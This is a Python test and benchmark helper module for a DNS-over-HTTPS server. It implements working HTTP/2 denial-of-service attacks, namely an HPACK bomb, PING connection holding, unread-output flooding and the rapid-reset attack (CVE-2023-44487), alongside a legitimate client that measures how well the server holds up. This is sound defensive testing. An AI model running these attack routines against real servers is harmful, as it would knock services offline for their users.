"""Attacks on a DNS-over-HTTPS server's HTTP/2, and a legitimate client to run beside them:
what ``tests/resolver/test_doh_abuse.py`` and ``benchmarks/test_doh_abuse.py`` share.

Each attack talks to ``Target`` (address, port, the CA that signed the server's
certificate, the source address to connect from) and reports how its connections ended
(``Ending``: "goaway <code>", "closed", "reset", "refused" at the handshake, "open" when the
server never ended it) and when. ``LegitClient`` asks one query every ``interval`` seconds
on its own HTTP/2 connection, in a thread, and records each answer's latency or failure.
"""
from __future__ import annotations

import base64
import socket
import ssl
import threading
import time
from dataclasses import dataclass, field

import dns.message
import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import hpack

from test_doh_sansio import _BIG_ENTRY as BIG_ENTRY, _headers_frame
from tls_certs import SERVER_NAME

PING = b"\x00\x00\x08\x06\x00\x00\x00\x00\x00" + b"\x00" * 8


@dataclass
class Target:
    host: str
    port: int
    ca: str                          # the CA's PEM file
    source: str | None = None        # the client's address (127.0.0.x on loopback)
    path: str = "/dns-query"


@dataclass
class Ending:
    how: str                         # "goaway ENHANCE_YOUR_CALM", "closed", "refused" ...
    after: float                     # seconds from the attack's start


def b64(wire: bytes) -> str:
    return base64.urlsafe_b64encode(wire).rstrip(b"=").decode()


def query_path(target: Target, name: str = "www.example.com.") -> str:
    return f"{target.path}?dns={b64(dns.message.make_query(name, 'A', id=0).to_wire())}"


def headers(path: str) -> list[tuple[str, str]]:
    return [(":method", "GET"), (":path", path), (":scheme", "https"),
            (":authority", SERVER_NAME), ("accept", "application/dns-message")]


def connect(target: Target, rcvbuf: int | None = None, timeout: float = 5.0):
    """A TLS connection with ALPN h2 and the client's preface sent: (socket, H2Connection).
    Raises OSError (ssl.SSLError among them) when the server refuses it."""
    raw = socket.socket(socket.AF_INET6 if ":" in target.host else socket.AF_INET)
    try:
        if rcvbuf:
            raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        if target.source:
            raw.bind((target.source, 0))
        raw.settimeout(timeout)
        raw.connect((target.host, target.port))
        ctx = ssl.create_default_context(cafile=target.ca)
        ctx.set_alpn_protocols(["h2"])
        s = ctx.wrap_socket(raw, server_hostname=SERVER_NAME)
    except BaseException:
        raw.close()
        raise
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    s.sendall(conn.data_to_send())
    return s, conn


def read_to_end(s, conn, limit: float) -> tuple[list, float]:
    """Reads until the server closes the connection (or ``limit`` seconds): the events seen
    and when it closed (inf if it did not)."""
    t0 = time.monotonic()
    seen = []
    s.settimeout(0.2)
    while time.monotonic() - t0 < limit:
        try:
            data = s.recv(65536)
        except socket.timeout:
            continue
        except (ConnectionResetError, ssl.SSLError):
            return seen, time.monotonic() - t0
        if not data:
            return seen, time.monotonic() - t0
        try:
            seen += conn.receive_data(data)
        except Exception:          # what follows a GOAWAY may not parse for the client
            pass
    return seen, float("inf")


def goaway_of(seen: list) -> str | None:
    """The error code of the GOAWAY among ``seen``, by name, or None."""
    for e in seen:
        if isinstance(e, h2.events.ConnectionTerminated):
            try:
                return h2.errors.ErrorCodes(e.error_code).name
            except ValueError:
                return str(e.error_code)
    return None


def ending_of(seen: list, closed: float, t0: float, started: float) -> Ending:
    code = goaway_of(seen)
    if closed == float("inf"):
        how = f"open (goaway {code})" if code else "open"
        return Ending(how, float("inf"))
    return Ending(f"goaway {code}" if code else "closed", started - t0 + closed)


# ---- the attacks ---------------------------------------------------------------------------

def hpack_bomb(target: Target, limit: float = 10.0) -> Ending:
    """A 4 KB header table entry, then a block of 16,000 one-byte references to it."""
    t0 = time.monotonic()
    s, conn = connect(target)
    with s:
        bomb = b"\x82\x87\x84" + b"\xbe" * 16000
        started = time.monotonic()
        try:
            s.sendall(_headers_frame(1, BIG_ENTRY) + _headers_frame(3, bomb))
        except OSError:
            return Ending("reset", time.monotonic() - t0)
        seen, closed = read_to_end(s, conn, limit)
    return ending_of(seen, closed, t0, started)


def ping_holders(target: Target, n: int, hold: float, every: float = 0.5) -> list[Ending]:
    """``n`` connections that send only PINGs, every ``every`` seconds, for ``hold``
    seconds (or until the server ends them): how each ended."""
    t0 = time.monotonic()
    held = []
    endings: list[Ending | None] = []
    for _ in range(n):
        try:
            held.append(connect(target))
            endings.append(None)
        except OSError:
            held.append(None)
            endings.append(Ending("refused", time.monotonic() - t0))
    try:
        while time.monotonic() - t0 < hold and any(e is None for e in endings):
            for i, pair in enumerate(held):
                if endings[i] is not None:
                    continue
                s, conn = pair
                try:
                    s.sendall(PING)
                    s.settimeout(0.01)
                    data = s.recv(65536)
                    if not data:
                        endings[i] = Ending("closed", time.monotonic() - t0)
                    else:
                        code = goaway_of(conn.receive_data(data))
                        if code:
                            endings[i] = Ending(f"goaway {code}", time.monotonic() - t0)
                except (socket.timeout, ssl.SSLWantReadError):
                    pass
                except (OSError, h2.exceptions.ProtocolError):
                    endings[i] = Ending("closed", time.monotonic() - t0)
            time.sleep(every)
    finally:
        for pair in held:
            if pair is not None:
                pair[0].close()
    return [e or Ending("open", float("inf")) for e in endings]


def unread_output(target: Target, limit: float = 30.0) -> tuple[Ending, int]:
    """A client with a 4 KiB receive buffer that sends PINGs and never reads their ACKs:
    how it ended, and the PINGs it got to send."""
    t0 = time.monotonic()
    s, conn = connect(target, rcvbuf=4096)
    sent = 0
    with s:
        s.settimeout(0.5)
        while time.monotonic() - t0 < limit:
            try:
                s.sendall(PING * 400)
                sent += 400
            except socket.timeout:
                pass                      # the server no longer reads: keep pushing
            except (ConnectionResetError, BrokenPipeError, ssl.SSLError, OSError):
                return Ending("reset", time.monotonic() - t0), sent
            time.sleep(0.002)
    return Ending("open", float("inf")), sent


def _request_block(path: str) -> bytes:
    """A GET request's header block that leaves HPACK's dynamic table alone (static
    references and never-indexed literals), so that it can be sent again as it is."""
    return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(n, v) for n, v in
                                   headers(path)])


def _frame(kind: int, flags: int, sid: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + sid.to_bytes(4, "big") + payload


def _goaway_in(buf: bytearray) -> tuple[str | None, bytearray]:
    """The GOAWAY's error code among the whole frames at the head of ``buf``, and the rest."""
    code = None
    while len(buf) >= 9:
        n = int.from_bytes(buf[:3], "big")
        if len(buf) < 9 + n:
            break
        if buf[3] == 7 and n >= 8:
            value = int.from_bytes(buf[13:17], "big")
            try:
                code = h2.errors.ErrorCodes(value).name
            except ValueError:
                code = str(value)
        del buf[:9 + n]
    return code, buf


def rapid_reset(target: Target, connections: int, streams: int,
                limit: float = 10.0) -> list[Ending]:
    """The rapid-reset attack (CVE-2023-44487) reconnecting: on each of ``connections``
    connections, opened one after the other, ``streams`` requests each reset at once
    (HEADERS then RST_STREAM, written as raw frames in batches), then reads until the
    server ends it or ``limit`` seconds pass, and opens the next. How each ended
    ("refused": the connection or its handshake was refused; "open" when the server never
    ended it)."""
    t0 = time.monotonic()
    endings = []
    block = _request_block(query_path(target))
    for _ in range(connections):
        try:
            s, _conn = connect(target)
        except OSError:
            endings.append(Ending("refused", time.monotonic() - t0))
            continue
        with s:
            code = None
            buf = bytearray()
            s.settimeout(0.2)
            try:
                for first in range(0, streams, 500):
                    s.sendall(b"".join(
                        _frame(1, 0x5, 1 + 2 * i, block) + _frame(3, 0, 1 + 2 * i, b"\0\0\0\x08")
                        for i in range(first, min(streams, first + 500))))
                closed = False
                sent = time.monotonic()
                while time.monotonic() - sent < limit:
                    try:
                        data = s.recv(65536)
                    except socket.timeout:
                        continue
                    if not data:
                        closed = True
                        break
                    found, buf = _goaway_in(buf + data)
                    code = code or found
            except (OSError, ssl.SSLError):
                closed = True
        now = time.monotonic() - t0
        if not closed:
            endings.append(Ending(f"open (goaway {code})" if code else "open", float("inf")))
        else:
            endings.append(Ending(f"goaway {code}" if code else "closed", now))
    return endings


# ---- the legitimate client -----------------------------------------------------------------

@dataclass
class LegitClient:
    """One query every ``interval`` seconds on one HTTP/2 connection (a new one when the
    server ends it; with ``fresh``, a new one for each query), in a thread, until ``stop``:
    each answer's latency (connecting included), each failure."""
    target: Target
    interval: float = 0.02
    timeout: float = 2.0
    fresh: bool = False
    latencies: list[float] = field(default_factory=list)
    failures: int = 0
    errors: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def start(self) -> "LegitClient":
        self._thread.start()
        return self

    def stop(self) -> "LegitClient":
        self._stop.set()
        self._thread.join(self.timeout + 5)
        return self

    def p99(self) -> float:
        if not self.latencies:
            return float("inf")
        ordered = sorted(self.latencies)
        return ordered[min(len(ordered) - 1, int(len(ordered) * 0.99))]

    def _run(self) -> None:
        pair = None
        sid = 1
        path = query_path(self.target)
        next_at = time.monotonic()
        while not self._stop.is_set():
            next_at += self.interval
            try:
                t = time.monotonic()
                if pair is None:
                    pair, sid = connect(self.target, timeout=self.timeout), 1
                s, conn = pair
                conn.send_headers(sid, headers(path), end_stream=True)
                s.sendall(conn.data_to_send())
                if not self._answer(s, conn, sid, t):
                    raise OSError("no answer")
                sid += 2
                if self.fresh:
                    s.close()
                    pair = None
            except (OSError, h2.exceptions.ProtocolError) as e:
                self.failures += 1
                if len(self.errors) < 20:
                    self.errors.append(repr(e))
                if pair is not None:
                    pair[0].close()
                pair = None
            self._stop.wait(max(0.0, next_at - time.monotonic()))
        if pair is not None:
            pair[0].close()

    def _answer(self, s, conn, sid: int, t: float) -> bool:
        s.settimeout(self.timeout)
        status, body = None, b""
        while time.monotonic() - t < self.timeout:
            data = s.recv(65536)
            if not data:
                return False
            for ev in conn.receive_data(data):
                if isinstance(ev, h2.events.ResponseReceived) and ev.stream_id == sid:
                    status = dict(ev.headers).get(b":status")
                elif isinstance(ev, h2.events.DataReceived):
                    conn.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
                    if ev.stream_id == sid:
                        body += ev.data
                elif isinstance(ev, h2.events.StreamEnded) and ev.stream_id == sid:
                    if status == b"200" and dns.message.from_wire(body).answer:
                        self.latencies.append(time.monotonic() - t)
                        return True
                    return False
                elif isinstance(ev, h2.events.ConnectionTerminated):
                    return False
            out = conn.data_to_send()
            if out:
                s.sendall(out)
        return False
